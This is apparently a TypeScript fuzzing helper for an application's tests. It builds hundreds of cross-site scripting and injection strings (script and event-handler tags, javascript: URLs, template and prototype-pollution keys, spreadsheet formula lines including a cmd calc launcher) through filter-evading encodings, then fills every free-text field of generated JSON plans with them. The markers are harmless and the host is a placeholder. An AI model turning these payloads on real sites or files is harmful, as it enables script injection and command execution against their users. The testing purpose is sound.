// Texts that try to become script, and plans that hold one in every field where a person may write.
//
// Each payload, wherever it ran, would set `window.__ran` or ask another machine for something.

import { readFile } from 'node:fs/promises';

import { Draw } from './draw.ts';

const RUN = 'window.__ran=1';
const FAR = 'http://ailleurs.test/x';

const TAGS = ['script', 'SCRIPT', 'scr\tipt', 'svg/onload', 'img src=x onerror', 'iframe', 'body onload', 'details open ontoggle', 'video', 'math', 'object', 'embed', 'link', 'meta', 'base', 'form', 'style', 'template', 'noscript', 'xmp', 'textarea', 'title', 'select', 'marquee onstart', 'input autofocus onfocus'];
const WRAPS: ((it: string) => string)[] = [
  (it) => it,
  (it) => `">${it}`,
  (it) => `'>${it}`,
  (it) => `--></style></script></textarea></title>${it}`,
  (it) => `\`>${it}`,
  (it) => `]]>${it}`,
  (it) => `<!--${it}`,
  (it) => it.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (it) => it.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (it) => it.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (it) => encodeURIComponent(it),
  (it) => [...it].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (it) => `\u202e${it}\u202c`,
  (it) => `${it}\u0000`.replace('\u0000', '\ufffd'),
];
const BODIES: ((tag: string) => string)[] = [
  (tag) => `<${tag}>${RUN}</${tag.split(/[ /]/)[0]}>`,
  (tag) => `<${tag}=${RUN}>`,
  (tag) => `<${tag} src="${FAR}" href="${FAR}" data="${FAR}" action="${FAR}"></${tag.split(/[ /]/)[0]}>`,
  (tag) => `<math><mtext><table><mglyph><style><!--</style><${tag}=${RUN}//>`,
  (tag) => `<svg><style><${tag}="${RUN}"></style></svg>`,
  (tag) => `<a href="javascript:${RUN}"><${tag}>ici</a>`,
];
const ALONE = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` java\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `</script><script>${RUN}</script>`,
  `expression(${RUN})`,
  `url(${FAR})`,
  `@import '${FAR}';`,
  `//ailleurs.test/x`,
  `__proto__`,
  `constructor`,
  `onerror=${RUN}`,
  `=HYPERLINK("${FAR}";"ici")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `-2+3`,
  `BEGIN:VALARM\r\nATTACH:${FAR}`,
  `[ici](javascript:${RUN})`,
  `![x](${FAR})`,
  `<${FAR}>`,
];

/** So many payloads, no two alike; the same seed gives the same ones. */
export function payloads(count: number, draw: Draw): string[] {
  const all = new Set(ALONE);
  while (all.size < count) all.add(draw.one(WRAPS)(draw.one(BODIES)(draw.one(TAGS))));
  return [...all].slice(0, count);
}

interface Schema {
  type?: string;
  $ref?: string;
  properties?: Record<string, Schema>;
  items?: Schema;
  enum?: unknown[];
  format?: string;
  pattern?: string;
  maxLength?: number;
  $defs?: Record<string, Schema>;
}

/** Plans, as many as it takes, whose every free text is the next payload: the published schema tells where texts are. */
export async function plansOf(list: string[], schemaPath: string): Promise<{ text: string; fields: number }[]> {
  const schema = JSON.parse(await readFile(schemaPath, 'utf8')) as Schema;
  const plans = [];
  let used = 0;
  while (used < list.length) {
    let drawn = 0;
    const first = used;
    const next = () => list[used++ % list.length];
    const fill = (it: Schema, key: string): unknown => {
      if (it.$ref) return fill(schema.$defs![it.$ref.split('/').at(-1)!], key);
      if (it.properties) {
        const record: Record<string, unknown> = {};
        for (const [name, field] of Object.entries(it.properties)) {
          const value = name === 'id' ? (++drawn).toString(36) : fill(field, name);
          if (value !== undefined) record[name] = value;
        }
        return record;
      }
      if (it.type === 'array') {
        const item = fill(it.items ?? {}, key);
        return item === undefined ? undefined : [item];
      }
      // A free text has no pattern, no list of choices, no format.
      if (it.type === 'string' && !it.enum && !it.pattern && !it.format) return next();
      return undefined;
    };
    const plan = { ...(fill(schema, '') as Record<string, { id: string }[]>), format: 'trame-plan', schema: 1 };
    // A crossing stands only between an offer and a row.
    Object.assign(plan.crossings[0], { offer: plan.offers[0].id, service: plan.services[0].id });
    plans.push({ text: JSON.stringify(plan), fields: used - first });
  }
  return plans;
}
